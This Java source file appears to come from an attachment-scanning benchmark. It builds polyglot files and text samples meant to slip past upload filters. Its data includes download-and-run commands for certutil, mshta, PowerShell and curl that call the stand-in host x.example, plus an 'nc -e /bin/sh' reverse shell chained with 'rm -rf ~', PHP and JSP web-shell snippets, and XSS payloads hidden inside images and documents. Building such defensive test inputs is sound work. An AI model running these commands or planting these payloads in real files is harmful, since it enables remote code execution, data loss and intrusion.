package io.attachrelay.deploy.benchmarks.verdicts;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;

import io.attachrelay.deploy.benchmarks.verdicts.Tricks.Made;
import io.attachrelay.deploy.testkit.sample.SampleFiles;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/**
 * Files of two types in the forms that are hardest to see, and texts that some program follows. An
 * audit thought of most of them, not the author of the checks.
 */
final class Polyglots {

    private static final byte[] PHOTO = SampleFiles.jpeg().bytes();
    private static final byte[] PDF = SampleFiles.pdf().bytes();
    private static final byte[] LETTER = SampleFiles.docx().bytes();
    private static final byte[] RAR = text("Rar!\u001a\7\1\0x");
    private static final byte[] PAGE = text("<hta:application><script>x</script>");
    private static final byte[] PROGRAM =
            Arrays.copyOf(SampleFiles.windowsProgram().bytes(), 200_000);

    private static final Map<String, String> TEXTS =
            Map.ofEntries(
                    Map.entry(
                            "sheet", "ID;P\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC(\"CALC\")\nE\n"),
                    Map.entry("set-up", "[Version]\nSignature=\"$CHICAGO$\"\n[DefaultInstall]\n"),
                    Map.entry("connection", "full address:s:x.example\nalternate shell:s:cmd\n"),
                    Map.entry("encoded", "#@~^UgAAAA==W!x1YbWUPf+^G[`bP,AgAAA==^#~@\n"),
                    Map.entry("download", "certutil -f http://x.example/a %TEMP%\\a & start a\n"),
                    Map.entry("mshta", "mshta http://x.example/a.hta\n"),
                    Map.entry("aliases", "iwr http://x.example/a -o $env:tmp\\a; saps a\n"),
                    Map.entry("utf-7", "hi +ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
                    Map.entry("jump", "<!--x--><meta http-equiv=refresh content=0;url=//x>\n"),
                    Map.entry("one-line", "var a=this[\"Act\"+\"iveXObject\"];new a(\"x\");\n"),
                    Map.entry("python-line", "__import__(\"os\").system(\"calc\")\n"),
                    Map.entry("deletion", "rm -rf ~; nc -e /bin/sh x.example 4242\n"),
                    Map.entry(
                            "pdf-remarks", "Hi,\n%PDF-1.4\n1%x\n0 obj\n<</A 1>>\nendobj\n%%EOF\n"),
                    Map.entry(
                            "pdf-late",
                            "Hi,\n%PDF-1.4\n" + "% words\n".repeat(9_000) + "1 0 obj\n<<>>\n"),
                    Map.entry("card", "BEGIN:VCARD\nVERSION:3.0\nURL:javascript:x\nEND:VCARD\n"),
                    Map.entry(
                            "date",
                            "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VALARM\nACTION:PROCEDURE\n"
                                    + "ATTACH:file:///c:/a.exe\nEND:VALARM\nEND:VCALENDAR\n"));

    private Polyglots() {}

    static List<Made> all(byte[] jar) {
        List<Made> all = new ArrayList<>();
        behind("pdf", PDF, all);
        behind("docx", LETTER, all);
        behind("mp4", SampleFiles.mp4().bytes(), all);
        behind("ogg", SampleFiles.ogg().bytes(), all);
        behind("mp3", music(), all);
        behind("jpg", PHOTO, all);
        behind("png", SampleFiles.png().bytes(), all);
        all.add(made("late-jar.pdf", join(join(PDF, jar), text("\n"))));
        all.add(made("ended-jar.pdf", join(join(PDF, jar), text("%%EOF\n"))));
        before("@start calc & exit\r\n", "batch", all);
        before("alert(1)/*\n", "javascript", all);
        before("<img src=x onerror=alert(1)>\n", "tag", all);
        before("%PDF-1.4\n%<?php system($x); ?>\n", "php", all);
        before("%PDF-1.4\n%__HALT_COMPILER();\n", "phar", all);
        comment("<?=system($_GET[0])?>", "echo", all);
        comment("<%Runtime.getRuntime()%>", "server", all);
        comment("<svg/onload=alert(1)>", "drawing", all);
        comment("<img src=x onerror=alert(1)>", "tag", all);
        comment("%PDF-a\nx", "pdf", all);
        for (String marker : List.of("\u00e0", "\u00e1", "\u00db", "\u00fe")) {
            all.add(made("script-" + (int) marker.charAt(0) + ".jpg", scriptPhoto(marker)));
        }
        all.add(made("script.mp3", text("\u00ff\u00fb=1;/*\0\0*/alert(1)//\0\0")));
        all.add(made("script.amr", text("#!AMR\nalert(1)//\4\0\0")));
        all.add(made("shell.amr", text("#!AMR\ncurl http://x.example/a|sh\nexit\n")));
        all.add(made("wide.webp", wide()));
        all.add(made("two-directories.docx", twoDirectories()));
        TEXTS.forEach((name, text) -> all.add(made("text-" + name + ".txt", text(text))));
        return all;
    }

    private static void behind(String ending, byte[] file, List<Made> all) {
        all.add(made("rar." + ending, join(join(file, text("x")), RAR)));
        all.add(made("program." + ending, join(file, PROGRAM)));
        all.add(made("page." + ending, join(file, PAGE)));
    }

    private static void before(String text, String name, List<Made> all) {
        all.add(made(name + "-before.pdf", join(text(text), PDF)));
    }

    private static void comment(String text, String name, List<Made> all) {
        all.add(made(name + "-comment.jpg", Tricks.commented(text(text))));
    }

    private static Made made(String name, byte[] bytes) {
        return new Made("two-" + name, "polyglot", bytes);
    }

    private static byte[] text(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private static byte[] join(byte[] first, byte[] second) {
        return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
    }

    /** The length of the first segment is the begin of a remark. */
    private static byte[] scriptPhoto(String marker) {
        String segment = "x".repeat(0x2f2a - 2 - 20) + "*/=alert(1);/*xxxxxx";
        byte[] begin = text("\u00ff\u00d8\u00ff" + marker + "/*" + segment);
        return join(begin, Arrays.copyOfRange(PHOTO, 2, PHOTO.length));
    }

    /** RIFF are two signs of Chinese to a page that says so, and WEBP stands in a remark. */
    private static byte[] wide() {
        byte[] begin = join(text("RIFF"), "/*".getBytes(UTF_16LE));
        return join(join(begin, text("WEBPVP8L")), "*/=1;alert(1)\n".getBytes(UTF_16LE));
    }

    /** Frames of 417 bytes: the third layer, 128 kbit/s, 44.1 kHz. */
    private static byte[] music() {
        byte[] music = new byte[300 * 417];
        for (int at = 0; at < music.length; at += 417) {
            System.arraycopy(text("\u00ff\u00fb\u0090d"), 0, music, at, 4);
        }
        return music;
    }

    /** One where the end record says, and another right before it. */
    private static byte[] twoDirectories() {
        int end = LETTER.length - 22;
        int directory = ByteBuffer.wrap(LETTER).order(ByteOrder.LITTLE_ENDIAN).getInt(end + 16);
        return join(
                Arrays.copyOf(LETTER, end),
                join(
                        Arrays.copyOfRange(LETTER, directory, end),
                        Arrays.copyOfRange(LETTER, end, LETTER.length)));
    }
}
